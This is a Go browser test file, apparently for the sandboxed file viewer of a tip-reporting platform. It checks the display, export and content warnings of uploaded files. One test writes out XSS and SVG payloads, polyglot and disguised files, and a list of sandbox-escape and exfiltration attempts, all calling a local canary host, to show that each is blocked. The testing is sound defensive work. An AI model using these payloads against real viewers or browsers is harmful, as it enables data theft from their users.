// SPDX-License-Identifier: AGPL-3.0-or-later

package browsertest_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/turnstone-project/turnstone/internal/app/bench"
	"github.com/turnstone-project/turnstone/internal/authz"
	"github.com/turnstone-project/turnstone/internal/kernel/id"
	"github.com/turnstone-project/turnstone/internal/report"
	"github.com/turnstone-project/turnstone/internal/seal"
	"github.com/turnstone-project/turnstone/internal/seal/archive"
)

// sender is an honest reporter with a report to which files are added.
type sender struct {
	t       *testing.T
	client  *bench.Client
	receipt seal.Receipt
	report  id.ID
}

// newSender sends a report about a category to the demo's first desk.
func newSender(t *testing.T, h house, category string) *sender {
	t.Helper()
	s := &sender{t: t, receipt: seal.NewReceipt()}
	var err error
	if s.client, err = bench.Visit(t.Context(), h.portal, 1); err != nil {
		t.Fatal(err)
	}
	sub, err := seal.SealSubmission(seal.Tip{
		Roster: s.client.Roster, Desk: s.client.Roster.Desks[0].ID, Receipt: s.receipt,
		Cover:  seal.Cover{Category: category, Language: "en", Urgency: seal.UrgencyNone, Words: "With files."},
		Report: seal.Report{Category: category, Language: "en", Questionnaire: "1", Text: "With files."},
	})
	if err != nil {
		t.Fatal(err)
	}
	body, err := sub.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if err := s.client.Submit(t.Context(), body); err != nil {
		t.Fatal(err)
	}
	s.report = sub.Report
	return s
}

func (s *sender) send(name, media string, cleaned seal.Cleaning, content []byte) {
	s.t.Helper()
	f := seal.File{Name: name, Media: media, Cleaned: cleaned}
	if cleaned == seal.Cleaned {
		f.Removed = []string{"gps", "device"}
	}
	if err := s.client.SendFile(s.t.Context(), s.receipt, f, content); err != nil {
		s.t.Fatal(err)
	}
}

// read opens the report in the reading room.
func (b *browser) read(s *sender) {
	b.t.Helper()
	b.visit(inDemo+"/reports/"+s.report.String(), "reading")
	b.until(`document.querySelector('[data-file]') && !document.querySelector('[data-file-act]').disabled`)
}

// fileBox finds a file in the conversation by its name.
func fileBox(name string) string {
	return fmt.Sprintf(`[...document.querySelectorAll('[data-file]')].find(f => f.querySelector('b').textContent === %q)`, name)
}

// pressIn presses the button of a file whose text starts so.
func (b *browser) pressIn(name, text string) {
	b.t.Helper()
	b.do(run(fmt.Sprintf(`[...%s.querySelectorAll('button')].find(x => x.textContent.startsWith(%q)).click()`, fileBox(name), text)))
}

// opened shows a file and returns its frame, as a browser of its own.
func (b *browser) opened(name string) *browser {
	b.t.Helper()
	b.pressIn(name, "Show")
	return b.frame(name)
}

// frame waits for the frame in which a file is shown.
func (b *browser) frame(name string) *browser {
	b.t.Helper()
	b.until(fileBox(name) + `.querySelector('iframe')?.dataset.shown === ''`)
	b.do(run(`document.querySelector('iframe').scrollIntoView()`)) // out of sight nothing is drawn
	deadline := time.Now().Add(patience)
	for {
		infos, err := chromedp.Targets(b.ctx)
		if err != nil {
			b.t.Fatal(err)
		}
		for _, info := range infos {
			if info.Type != "iframe" || !strings.Contains(info.URL, "/viewer") {
				continue
			}
			ctx, cancel := chromedp.NewContext(b.ctx, chromedp.WithTargetID(info.TargetID))
			f := &browser{t: b.t, ctx: ctx}
			if title, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.title`)); err == nil && title == name {
				b.t.Cleanup(cancel)
				return f
			}
			cancel()
		}
		if time.Now().After(deadline) {
			b.picture("failed")
			b.t.Fatalf("the frame of %s has no process of its own", name)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// canary counts who calls it.
type canary struct {
	address string // host:port
	calls   atomic.Int64
}

func newCanary(t *testing.T) *canary {
	t.Helper()
	c := &canary{}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	server := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(http.ResponseWriter, *http.Request) { c.calls.Add(1) }), ConnState: func(net.Conn, http.ConnState) { c.calls.Add(1) }}}
	server.Start()
	t.Cleanup(server.Close)
	c.address = l.Addr().String()
	return c
}

func (c *canary) silent(t *testing.T, when string) {
	t.Helper()
	if n := c.calls.Swap(0); n > 0 {
		t.Errorf("%s: something called out (%d)", when, n)
	}
}

// strict evaluates as a script of the page would: what its policy forbids to
// evaluate is forbidden here too.
func strict(p *runtime.EvaluateParams) {
	p.AllowUnsafeEvalBlockedByCSP, p.AwaitPromise = new(false), new(true)
}

func TestTheViewerShowsEachKind(t *testing.T) {
	t.Parallel()
	h := open(t)
	c := newCanary(t)
	s := newSender(t, h, "drugs")
	s.send("van.jpg", "image/jpeg", seal.Unclean, jpegWithNotes(320, 200))
	s.send("map.png", "image/png", seal.Cleaned, pngOf(300, 500))
	s.send("list.txt", "text/plain", seal.Partly, []byte("<b>Mondays</b> at the dairy\n<script>document.title='run'</script> \u202edesrever"))
	s.send("book.pdf", "application/pdf", seal.Cleaned, pdfOf(c, "the dairy road", "a second page with a quokka", "and a third: the quokka again, quokka"))
	s.send("note.wav", "application/octet-stream", seal.Unclean, wavOf(3))
	film := filmOf(t)
	if film != nil {
		s.send("yard.webm", "video/webm", seal.Cleaned, film)
	}
	b := newBrowser(t, mode{})
	b.logIn(h, "rita")
	b.read(s)

	// The list at the top says what is known before anything is opened.
	list := get[string](b, `document.querySelector('.dk-files').innerText`)
	for _, want := range []string{"van.jpg · Picture", "could not be cleaned: the reporter chose to send it as it is", "book.pdf · Document (PDF)", "partly cleaned", "note.wav · Sound", "kB"} {
		if !strings.Contains(list, want) {
			t.Errorf("the list does not say %q:\n%s", want, list)
		}
	}
	if text := get[string](b, fileBox("map.png")+`.innerText`); !strings.Contains(text, "Taken out before it was sealed: the place where it was made, the kind of phone or camera") {
		t.Errorf("what was cleaned is not said:\n%s", text)
	}
	b.picture("list")

	pic := b.opened("van.jpg")
	pic.until(`document.querySelector('canvas').width === 320`)
	width := `document.querySelector('canvas').getBoundingClientRect().width`
	before := get[float64](pic, width)
	pic.do(chromedp.KeyEvent("+"))
	pic.until(fmt.Sprintf(`%s > %g`, width, before))
	pic.do(chromedp.KeyEvent("0"), chromedp.KeyEvent("r"))
	pic.until(`document.querySelector('canvas').width === 200 && document.querySelector('canvas').height === 320`)
	pic.do(chromedp.KeyEvent("b"))
	pic.until(`document.querySelector('canvas').classList.contains('blurred')`)
	pic.do(chromedp.KeyEvent("b"))
	for _, want := range []string{"the place where it was made: 55.67500, 12.50000", "the kind of phone or camera: Quokka 7", "Size in points: 320 × 200"} {
		pic.until(fmt.Sprintf(`document.querySelector('.about').innerText.includes(%q)`, want))
	}
	b.picture("image")
	// Escape closes, and the focus is where it came from.
	pic.do(run(`setTimeout(() => dispatchEvent(new KeyboardEvent('keydown', {key: 'Escape'})))`))
	b.until(`!document.querySelector('iframe') && document.activeElement.textContent === 'Show'`)

	clean := b.opened("map.png")
	clean.until(`document.querySelector('.about summary').innerText.includes('no notes about its maker')`)

	text := b.opened("list.txt")
	if got := get[string](text, `document.querySelector('pre').textContent`); !strings.Contains(got, "<b>Mondays</b>") || strings.Contains(got, "\u202e") {
		t.Errorf("the text is %q", got)
	}
	b.picture("text")

	b.readsADocument()
	b.hearsAndSees(film != nil)
	b.exportsWithFiles(map[bool]int{true: 6, false: 5}[film != nil])
	// One frame at a time, and none when the keys are locked.
	if n := get[int](b, `document.querySelectorAll('iframe').length`); n != 1 {
		t.Errorf("%d frames are open", n)
	}
	b.do(clicked("[data-key-lock]"))
	b.until(`document.querySelectorAll('iframe').length === 0 && !document.querySelector('[data-file]')`)
	c.silent(t, "while files were shown")
	b.stayed(h.desk)
}

// readsADocument turns pages of book.pdf and searches in it.
func (b *browser) readsADocument() {
	b.t.Helper()
	book := b.opened("book.pdf")
	book.until(`document.querySelector('.status').textContent === 'Page 1 of 3' && document.querySelector('.sheet canvas').width > 100`)
	book.until(`document.querySelector('.pagetext').textContent.includes('the dairy road')`)
	ink := `(() => { const c = document.querySelector('.sheet canvas'); const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data; let n = 0; for (let i = 0; i < d.length; i += 4) if (d[i] < 100) n++; return n })()`
	if n := get[int](book, ink); n < 100 {
		b.t.Errorf("the page has %d dark points: nothing was drawn", n)
	}
	book.until(`document.querySelector('.about').innerText.includes('hidden programs: it was not run')`)
	book.until(`document.querySelector('.about').innerText.includes('who made it: Anna Quokka')`)
	book.do(run(`document.querySelector('#query').value = 'QUOKKA again'; [...document.querySelectorAll('button')].find(x => x.textContent === 'Find').click()`))
	book.until(`document.querySelector('.status').textContent === 'Page 3: found 1×'`)
	marked := `(() => { const c = document.querySelector('.marks'); const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data; let n = 0; for (let i = 3; i < d.length; i += 4) if (d[i] > 0) n++; return n })()`
	book.until(marked + ` > 50`)
	b.picture("pdf")
	book.do(run(`[...document.querySelectorAll('button')].find(x => x.textContent === 'Previous page').click()`))
	book.until(`document.querySelector('.status').textContent === 'Page 2 of 3' && document.querySelector('.pagetext').textContent.includes('second')`)
	book.do(run(`document.querySelector('#query').value = 'nowhere'; [...document.querySelectorAll('button')].find(x => x.textContent === 'Find').click()`))
	book.until(`document.querySelector('.status').textContent === 'Not found'`)
}

// hearsAndSees plays note.wav, and yard.webm when there is a film.
func (b *browser) hearsAndSees(film bool) {
	b.t.Helper()
	sound := b.opened("note.wav")
	sound.until(`document.querySelector('audio').duration > 2.9`)
	sound.do(run(`dispatchEvent(new KeyboardEvent('keydown', {key: 'ArrowRight'}))`))
	sound.until(`document.querySelector('audio').currentTime > 2.9`)
	sound.do(run(`dispatchEvent(new KeyboardEvent('keydown', {key: 'ArrowLeft'}))`))
	sound.until(`document.querySelector('audio').currentTime === 0`)
	sound.do(chromedp.KeyEvent(">"))
	sound.until(`document.querySelector('audio').playbackRate === 1.25`)
	b.picture("sound")
	if film {
		yard := b.opened("yard.webm")
		yard.until(`document.querySelector('video').videoWidth === 160`)
		yard.do(chromedp.KeyEvent(" "))
		yard.until(`document.querySelector('video').currentTime > 0.2`)
		yard.do(chromedp.KeyEvent(" "))
		yard.until(`document.querySelector('video').paused`)
		b.picture("film")
	}
}

// exportsWithFiles exports the report that is open and looks for its files,
// still sealed.
func (b *browser) exportsWithFiles(want int) {
	b.t.Helper()
	b.do(run(`(() => { const make = URL.createObjectURL; URL.createObjectURL = blob => { window.exported = blob; return make(blob) } })()`))
	b.do(run(`document.querySelector('[data-export]').click()`))
	b.until(`window.exported?.type === 'application/zip'`)
	text := get[string](b, `exported.bytes().then(b => b.toBase64())`, chromedp.EvalAwaitPromise)
	zipped, err := base64.StdEncoding.DecodeString(text)
	if err != nil {
		b.t.Fatal(err)
	}
	a, err := archive.Read(bytes.NewReader(zipped), int64(len(zipped)))
	if err != nil {
		b.t.Fatal(err)
	}
	if _, err := seal.ParseExport(a.Document); err != nil {
		b.t.Error(err)
	}
	if n := len(a.Strangers(nil)); n != want {
		b.t.Errorf("the export has %d files, want %d", n, want)
	}
	for _, name := range []string{"van.jpg", "quokka"} {
		if bytes.Contains(zipped, []byte(name)) {
			b.t.Errorf("the export says %q in clear", name)
		}
	}
}

// TestNothingInTheFrameRunsOrCallsOut opens what attackers send, and then does
// what a script could do if one ran there.
func TestNothingInTheFrameRunsOrCallsOut(t *testing.T) {
	t.Parallel()
	h := open(t)
	c := newCanary(t)
	script := fmt.Sprintf(`<script>parent.postMessage("pwned","*");fetch("http://%[1]s/")</script><img src="http://%[1]s/x" onerror="fetch('http://%[1]s/')">`, c.address)
	svg := fmt.Sprintf(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('http://%[1]s/')"><script>fetch("http://%[1]s/")</script><image href="http://%[1]s/y"/></svg>`, c.address)
	s := newSender(t, h, "drugs")
	s.send("page.html", "text/html", seal.Unclean, []byte(script))
	s.send("drawing.svg", "image/svg+xml", seal.Unclean, []byte(svg))
	s.send("macro.docm", "application/vnd.ms-word.document.macroEnabled.12", seal.Unclean, []byte("PK\x03\x04"))
	s.send("forged.jpg", "image/jpeg", seal.Cleaned, []byte("<!doctype html>"+script))
	s.send("drawing.png", "image/png", seal.Cleaned, []byte(svg))
	s.send("poly.jpg", "image/jpeg", seal.Cleaned, append(jpegWithNotes(320, 200), script+svg...))
	s.send("poly.gif", "image/gif", seal.Cleaned, []byte("GIF89a\x10\x00\x10\x00=1;fetch('http://"+c.address+"/')//"))
	s.send("bomb.png", "image/png", seal.Cleaned, bombPNG())
	s.send("program.jpg", "image/jpeg", seal.Cleaned, []byte("MZ\x90\x00\x03\x00"))
	s.send("trap.pdf", "application/pdf", seal.Cleaned, pdfOf(c, "look"))
	s.send("broken.pdf", "application/pdf", seal.Cleaned, []byte("%PDF-1.7\n"+script))
	s.send("script.txt", "text/plain", seal.Cleaned, []byte(script))
	s.send("long.pdf", "application/pdf", seal.Cleaned, pdfOf(c, slices.Repeat([]string{"page after page"}, 10_000)...))

	b := newBrowser(t, mode{})
	b.logIn(h, "rita")
	b.read(s)
	b.do(run(`window.heard = []; addEventListener('message', e => heard.push(e.data))`))
	for _, name := range []string{"page.html", "drawing.svg", "macro.docm"} {
		if n := get[int](b, fileBox(name)+`.querySelectorAll('button').length`); n != 1 || !get[bool](b, fileBox(name)+`.innerText.includes("can't be shown here")`) {
			t.Errorf("%s can be shown, or says nothing of the danger", name)
		}
	}
	for name, as := range map[string]string{"forged.jpg": "JPEG, but it is TEXT", "drawing.png": "PNG, but it is TEXT"} {
		f := b.opened(name)
		f.until(`document.querySelector('pre').textContent.includes('fetch(')`)
		b.until(fmt.Sprintf(`%s.innerText.includes(%q)`, fileBox(name), as))
	}
	b.picture("forged")
	for _, name := range []string{"poly.gif", "program.jpg", "broken.pdf"} {
		b.pressIn(name, "Show")
		b.until(fileBox(name) + `.innerText.includes("This file can't be shown")`)
	}
	b.pressIn("bomb.png", "Show")
	b.until(fileBox("bomb.png") + `.innerText.includes("too large to be shown")`)
	b.opened("poly.jpg").until(`document.querySelector('canvas').width === 320 && document.scripts.length === 1`)
	b.opened("script.txt").until(`document.querySelector('pre') && document.scripts.length === 1`)

	long := b.opened("long.pdf")
	long.do(chromedp.KeyEvent(kb.End))
	long.until(`document.querySelector('.status').textContent === 'Page 10000 of 10000' && document.querySelector('.pagetext').textContent === 'page after page'`)

	for _, name := range []string{"poly.jpg", "trap.pdf"} {
		f := b.opened(name)
		// Each has somebody of its own to call, so that all of them wait for a late
		// call together.
		called := map[string]*canary{}
		for _, what := range slices.Sorted(maps.Keys(attempts(c))) {
			called[what] = newCanary(t)
			try := attempts(called[what])[what]
			if got := get[string](f, `(async () => { try { `+try+` } catch (e) { return 'refused' } })()`, strict); got != "refused" {
				t.Errorf("%s: %s: %s", name, what, got)
			}
		}
		b.do(chromedp.Sleep(time.Second))
		for what, own := range called {
			own.silent(t, name+": "+what)
		}
		// Last, because it may take the frame away.
		f.do(run(fmt.Sprintf(`setTimeout(() => { location.href = "http://%s/gone" })`, c.address)))
		b.do(chromedp.Sleep(500 * time.Millisecond))
	}
	if got := get[[]string](b, `heard.filter(x => !['shown', 'broken', 'too-large', 'close', 'stir'].includes(x))`); len(got) > 0 {
		t.Errorf("a frame said %q", got)
	}
	if at := get[string](b, `location.pathname`); !strings.HasSuffix(at, s.report.String()) {
		t.Errorf("the reading room is now at %s", at)
	}
	c.silent(t, "after all attempts")
	b.stayed(h.desk)
}

// attempts are what a script would try: each must throw, or return "refused".
// Where the browser does not say what became of it, the canary does.
func attempts(c *canary) map[string]string {
	at := "http://" + c.address
	event := func(make string) string {
		return `const x = ` + make + `; return await new Promise(done => { x.onload = x.onopen = () => done('reached'); x.onerror = () => done('refused'); setTimeout(() => done('refused'), 1500); (x.attach ?? (() => {}))() })`
	}
	return map[string]string{
		"an origin":         `return self.origin === 'null' ? 'refused' : self.origin`,
		"the page around":   `return parent.document.title`,
		"its address":       `return parent.location.href`,
		"storage":           `return String(localStorage.length)`,
		"a database":        `await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no }); return 'opened'`,
		"cookies":           `return document.cookie`,
		"fetch":             `await fetch('` + at + `'); return 'reached'`,
		"fetch home":        `await fetch('/me/keys'); return 'reached'`,
		"a request":         `const r = new XMLHttpRequest(); r.open('GET', '` + at + `', false); r.send(); return 'reached'`,
		"a socket":          event(`new WebSocket('ws://` + c.address + `')`),
		"a stream":          event(`new EventSource('` + at + `')`),
		"a beacon":          `navigator.sendBeacon('` + at + `', 'x'); return 'refused'`,
		"a picture":         event(`new Image()`) + `; x.src`,
		"a picture outside": `const x = new Image(); return await new Promise(done => { x.onload = () => done('reached'); x.onerror = () => done('refused'); x.src = '` + at + `/i.png' })`,
		"a style":           `const x = document.createElement('link'); return await new Promise(done => { x.onload = () => done('reached'); x.onerror = () => done('refused'); x.rel = 'stylesheet'; x.href = '` + at + `/s.css'; document.head.append(x) })`,
		"a frame":           `const x = document.createElement('iframe'); x.src = '` + at + `/f'; document.body.append(x); await new Promise(ok => setTimeout(ok, 500)); x.remove(); return 'refused'`,
		"evaluating":        `return String(eval('1 + 1'))`,
		"a function":        `return String(new Function('return 1')())`,
		"an import":         `await import('` + at + `/m.js'); return 'reached'`,
		"an import of data": `await import('data:text/javascript,export default 1'); return 'reached'`,
		"a script":          `const x = document.createElement('script'); x.textContent = 'window.ran = 1'; document.body.append(x); return window.ran === 1 ? 'ran' : 'refused'`,
		"markup":            `document.body.innerHTML = '<img src=x onerror=1>'; return 'written'`,
		"a worker":          `const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return await new Promise(done => { w.onmessage = () => done('ran'); w.onerror = () => done('refused') })`,
		"a window":          `return open('` + at + `') === null ? 'refused' : 'opened'`,
		"the whole tab":     `top.location = '` + at + `'; await new Promise(ok => setTimeout(ok, 300)); return 'refused'`,
		"a form":            `const f = document.createElement('form'); f.action = '` + at + `'; f.target = '_top'; document.body.append(f); f.submit(); await new Promise(ok => setTimeout(ok, 300)); return 'refused'`,
		"a saved file":      `const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'x.exe'; a.click(); return 'refused'`,
		"a call":            `const p = new RTCPeerConnection({iceServers: [{urls: 'turn:` + c.address + `?transport=tcp', username: 'x', credential: 'x'}]}); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise(ok => setTimeout(ok, 1500)); p.close(); return 'refused'`,
		"a hint":            `for (const rel of ['preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender']) { const x = document.createElement('link'); x.rel = rel; x.as = 'script'; x.href = '` + at + `/h'; document.head.append(x) } await new Promise(ok => setTimeout(ok, 800)); return 'refused'`,
		"a microphone":      `await navigator.mediaDevices.getUserMedia({audio: true}); return 'heard'`,
	}
}

// TestWhatIsHardToLookAtIsAskedForFirst opens a picture of a report about the
// abuse of children.
func TestWhatIsHardToLookAtIsAskedForFirst(t *testing.T) {
	t.Parallel()
	h := open(t)
	s := newSender(t, h, "child-abuse")
	s.send("a.jpg", "image/jpeg", seal.Cleaned, jpegWithNotes(320, 200))
	s.send("a.wav", "audio/wav", seal.Cleaned, wavOf(1))
	b := newBrowser(t, mode{width: 320})
	b.logIn(h, "rita")
	b.read(s)
	b.pressIn("a.jpg", "Show")
	b.until(`document.querySelector('.dk-hard')?.innerText.includes('Sexual abuse of children') && document.activeElement.closest('.dk-hard')`)
	b.fits("warning")
	b.accessible(axe(t), "warning")
	b.picture("warning")
	b.pressIn("a.jpg", "Not now")
	b.until(`!document.querySelector('.dk-hard') && !document.querySelector('iframe') && document.activeElement.textContent === 'Show'`)
	if acts, err := h.Desk.History(t.Context(), authz.Subject{Account: id.New(), Grants: []authz.Grant{{Role: authz.Auditor, Programme: s.client.Roster.Programme}}}, s.client.Roster.Programme, s.report); err != nil || slices.ContainsFunc(acts, func(a report.Act) bool { return a.What == "opened-file" }) {
		t.Errorf("what was not opened is in the history: %v, %v", acts, err)
	}

	open := func(name string) *browser {
		b.pressIn(name, "Show")
		b.until(`document.querySelector('.dk-hard')`)
		b.pressIn(name, "Open it blurred")
		return b.frame(name)
	}
	sound := open("a.wav")
	sound.until(`document.querySelector('audio').muted && document.querySelector('[title=m]').getAttribute('aria-pressed') === 'true'`)
	f := open("a.jpg")
	veiled := `[...document.querySelector('canvas').classList].sort().join(' ')`
	f.until(veiled + ` === 'blurred grey'`)
	b.picture("blurred")
	b.fits("frame")

	// Time goes on until a break is due; whoever wants to goes on.
	b.do(run(`document.querySelector('[data-reading]').dataset.break = '0.001'; document.dispatchEvent(new Event('visibilitychange'))`))
	b.until(`document.querySelector('.dk-break').innerText.includes('A few minutes away')`)
	b.accessible(axe(t), "break")
	b.picture("break")
	b.do(run(`document.querySelector('[data-reading]').dataset.break = '20'`))
	b.pressIn("a.jpg", "Go on")
	b.until(`document.querySelector('.dk-break').innerText === '' && document.querySelector('iframe')`)
	f.do(chromedp.KeyEvent("b"), chromedp.KeyEvent("g"))
	f.until(veiled + ` === ''`)
	b.pressIn("a.jpg", "Close the file")
	b.until(`!document.querySelector('iframe')`)
	b.stayed(h.desk)
}

// TestTheFrameShutsNobodyOut hands files to the frame as the reading room does,
// in two directions of writing and on a narrow screen.
func TestTheFrameShutsNobodyOut(t *testing.T) {
	t.Parallel()
	h := open(t)
	c := newCanary(t)
	source := axe(t)
	words, err := os.ReadFile("../../web/desk/texts/files.en.yaml")
	if err != nil {
		t.Fatal(err)
	}
	said := map[string]string{}
	for line := range strings.Lines(string(words)) {
		key, text, _ := strings.Cut(strings.TrimSpace(line), ": ")
		for from, to := range map[string]string{"js.view_": "", "js.found_": "fact_"} {
			if name, ok := strings.CutPrefix(key, from); ok {
				said[to+name] = strings.Trim(text, `"`)
			}
		}
	}
	files := map[string]struct {
		at, family, kind, media string
		content                 []byte
	}{
		"picture":  {"/viewer", "jpeg", "image", "image/jpeg", jpegWithNotes(900, 700)},
		"text":     {"/viewer", "text", "text", "text/plain", []byte(strings.Repeat("a long line without any end ", 30))},
		"sound":    {"/viewer", "wav", "audio", "audio/wav", wavOf(1)},
		"document": {"/viewer/pages", "pdf", "pages", "application/pdf", pdfOf(c, "one", "two")},
	}
	for _, width := range []int64{320, 1280} {
		t.Run(fmt.Sprint(width), func(t *testing.T) {
			t.Parallel()
			b := newBrowser(t, mode{width: width})
			for name, f := range files {
				for lang, dir := range map[string]string{"en": "ltr", "ar": "rtl"} {
					b.do(chromedp.Navigate(h.desk + f.at))
					b.do(run(fmt.Sprintf(`window.told = []; addEventListener('message', e => typeof e.data === 'string' && told.push(e.data));
					postMessage({type: {family: %q, kind: %q, media: %q}, data: Uint8Array.from(atob(%q), c => c.charCodeAt(0)).buffer, name: 'اسم %s.bin', hard: false, lang: %q, dir: %q, words: %s}, '*')`,
						f.family, f.kind, f.media, base64.StdEncoding.EncodeToString(f.content), name, lang, dir, jsonOf(t, said))))
					b.until(`told.includes('shown')`)
					where := fmt.Sprintf("%s %s %d", name, dir, width)
					b.fits(where)
					b.accessible(source, where)
					b.picture(where)
					if got := get[string](b, `getComputedStyle(document.querySelector('.about')).direction`); got != dir {
						t.Errorf("%s is written %s", where, got)
					}
				}
			}
			b.stayed(h.desk)
		})
	}
}

// jsonOf writes a value as a script has it.
func jsonOf(t *testing.T, v any) string {
	t.Helper()
	text, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}
